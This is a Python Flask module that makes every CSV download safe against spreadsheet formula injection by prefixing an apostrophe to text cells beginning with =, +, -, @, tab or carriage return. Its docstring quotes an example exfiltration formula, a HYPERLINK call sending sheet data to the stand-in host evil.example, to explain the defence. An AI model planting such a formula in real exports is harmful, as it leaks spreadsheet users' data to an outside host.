"""Every CSV download is written here, so no cell can become a spreadsheet formula.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and some with a leading tab or
carriage return) as a formula: `=HYPERLINK("https://evil.example?"&A1, "Click")` sends the
sheet's data away. Such a text cell gets a leading apostrophe, which spreadsheets show as text
(OWASP's "CSV injection" advice), whoever wrote it: a memo of "-5" is text too. Only figures the
code itself formats (ints, Decimals, `Figure("-12.50")`) are written as they are, so that
accountants' negative amounts stay numbers.
"""
from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Iterable

from flask import Response

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class Figure(str):
    """A number the code formatted itself ("-12.50", "3.25"): written as it is."""


def safe_cell(value: object) -> object:
    """What the writer puts in a cell: figures as they are, text that could start a formula with an
    apostrophe in front, None as an empty cell."""
    if value is None:
        return ""
    if isinstance(value, (int, Decimal, Figure)) and not isinstance(value, bool):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_text(header: Iterable[object], rows: Iterable[Iterable[object]]) -> str:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([safe_cell(cell) for cell in header])
    for row in rows:
        writer.writerow([safe_cell(cell) for cell in row])
    return out.getvalue()


def csv_response(filename: str, header: Iterable[object], rows: Iterable[Iterable[object]]) -> Response:
    """A CSV download: `text/csv`, saved as `filename`."""
    return Response(csv_text(header, rows), mimetype="text/csv",
                    headers={"Content-Disposition": f"attachment; filename={filename}"})
